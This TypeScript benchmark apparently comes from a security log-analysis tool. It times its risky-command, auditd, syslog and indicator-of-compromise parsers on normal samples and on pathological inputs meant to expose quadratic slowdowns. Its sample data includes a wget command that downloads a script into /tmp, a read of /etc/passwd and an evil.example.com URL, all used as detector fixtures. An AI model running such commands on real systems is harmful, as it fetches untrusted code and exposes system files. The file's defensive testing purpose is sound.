// Every event-data parser on hostile input beside normal input (issue 13):
// MB/s on ~1 MB of each, generated here (no upstream data), and the time
// ratio of 2 MB to 1 MB (about 2 when linear, 4 when quadratic). Risky rules
// run uncapped here, to show the engine; the node caps commands at 64 KiB.
import { parseAuditd } from '../src/lib/auditd';
import { IOC_TYPES, IocExtractor } from '../src/lib/ioc';
import { checkCommand, classifyRow, loadRules, parseSyslogLine, rowsFromPayload } from '../src/lib/linux';

type Row = Record<string, string | number>;

const MB = 1024 * 1024;
const fill = (unit: string, size: number) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
const linesOf = (templates: string[], size: number) => {
  let out = '';
  for (let i = 0; out.length < size; i++) out += templates[i % templates.length].replace(/%N/g, String(i % 1000)) + '\n';
  return out;
};

/** Fastest wall time of a few runs, in ms (each run at least once; more while under 1 s in all). */
function best(fn: () => unknown): number {
  let min = Infinity;
  let spent = 0;
  for (let i = 0; i < 5 && (i < 2 || spent < 1000); i++) {
    const t = performance.now();
    fn();
    const took = performance.now() - t;
    spent += took;
    min = Math.min(min, took);
  }
  return min;
}

interface Parser {
  name: string;
  /** Work on one input text. */
  run: (text: string) => unknown;
  normal: (size: number) => string;
  hostile: Record<string, (size: number) => string>;
}

const RULES = loadRules('');
const SYSLOG = [
  '<86>Dec  6 10:00:00 web sshd[4%N]: Failed password for invalid user admin%N from 203.0.113.7 port 4%N ssh2',
  '<85>Dec  6 10:00:01 web sudo[9%N]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get install -y pkg%N',
  '<86>Dec  6 10:00:02 web sshd[4%N]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)',
  '<78>Dec  6 10:00:03 web CRON[7%N]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)',
];
const COMMANDS = ['/usr/bin/apt-get install -y nginx%N', 'ls -la /var/log/%N', 'cat /etc/passwd | grep user%N', 'systemctl restart sshd', '/usr/bin/wget http://203.0.113.%N/x.sh -O /tmp/x.sh'];
const AUDIT = [
  'type=SYSCALL msg=audit(1700000%N.123:%N): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=0 items=2 ppid=1%N pid=2%N auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key=(null)',
  'type=EXECVE msg=audit(1700000%N.123:%N): argc=3 a0="bash" a1="-c" a2="id"',
  'type=CWD msg=audit(1700000%N.123:%N): cwd="/root"',
  'type=PROCTITLE msg=audit(1700000%N.123:%N): proctitle=62617368002D630069640A',
];
const TEXT = ['GET http://evil%N.example.com/path/x.php?q=1 from 198.51.100.%N', 'mail bob%N@corp.example.org about 44d88612fea8a8f36de82e1278abb02f', 'dns query for cdn%N.example.net ok', 'fe80::1 and c:\\windows\\temp\\x%N.exe'];

const PARSERS: Parser[] = [
  {
    name: 'risky rules (5 defaults)',
    run: (text) => {
      if (!text.includes('\n')) return checkCommand(RULES, text, Infinity);
      for (const line of text.split('\n')) checkCommand(RULES, line, Infinity);
      return undefined;
    },
    normal: (n) => linesOf(COMMANDS, n),
    hostile: { 'curl curl … (issue line)': (n) => fill('curl ', n), 'mv /dev/nul …': (n) => fill('mv /dev/nul', n) },
  },
  {
    name: 'auditd',
    run: (text) => parseAuditd(text),
    normal: (n) => linesOf(AUDIT, n),
    hostile: { 'one SYSCALL record of `a a …`': (n) => `type=SYSCALL msg=audit(1:1): ${fill('a ', n)}`, 'type=type=… line': (n) => fill('type=', n), 'x\\n lines': (n) => fill('x\n', n) },
  },
  {
    name: 'linux-syslog (parse + classify)',
    run: (text) => (text.includes('\n') ? rowsFromPayload(text).map((r) => classifyRow(r)) : classifyRow(parseSyslogLine(text))),
    normal: (n) => linesOf(SYSLOG, n),
    hostile: {
      'sudo COMMAND=COMMAND=… line': (n) => `<85>Dec  6 10:00:01 web sudo: ${fill('COMMAND=', n)}\u2028x`,
      'cron CMDCMD… line': (n) => `<78>Dec  6 10:00:03 web CRON[7]: ${fill('CMD', n)}`,
      'line ending in \\r\\r…x': (n) => `<86>Dec  6 10:00:02 web sshd[4]: ${fill('\r', n)}x`,
    },
  },
  {
    name: 'IoC (all types, uncapped)',
    run: (() => {
      const ex = new IocExtractor({ types: IOC_TYPES, maxLength: Infinity });
      return (text: string) => ex.extract(text);
    })(),
    normal: (n) => linesOf(TEXT, n),
    hostile: { 'a.a.a.…': (n) => fill('a.', n), 'a[.]a[.]…': (n) => fill('a[.]', n), 'http://a.…': (n) => fill('http://a.', n), 'a@a.…': (n) => fill('a@a.', n) },
  },
];

export async function run(): Promise<Row[]> {
  const rows: Row[] = [];
  for (const p of PARSERS) {
    const normal = p.normal(MB);
    const normalMbs = normal.length / MB / (best(() => p.run(normal)) / 1000);
    for (const [shape, make] of Object.entries(p.hostile)) {
      const one = make(MB);
      const two = make(2 * MB);
      // Alternating rounds, each size keeping its minimum: load from other processes comes and goes.
      let t1 = Infinity;
      let t2 = Infinity;
      for (let round = 0; round < 3; round++) {
        t1 = Math.min(t1, best(() => p.run(one)));
        t2 = Math.min(t2, best(() => p.run(two)));
      }
      rows.push({ parser: p.name, 'normal MB/s': normalMbs, 'hostile input': shape, 'hostile MB/s': one.length / MB / (t1 / 1000), 'ms per hostile MB': t1, '2 MB / 1 MB time': t2 / t1 });
    }
  }
  return rows;
}
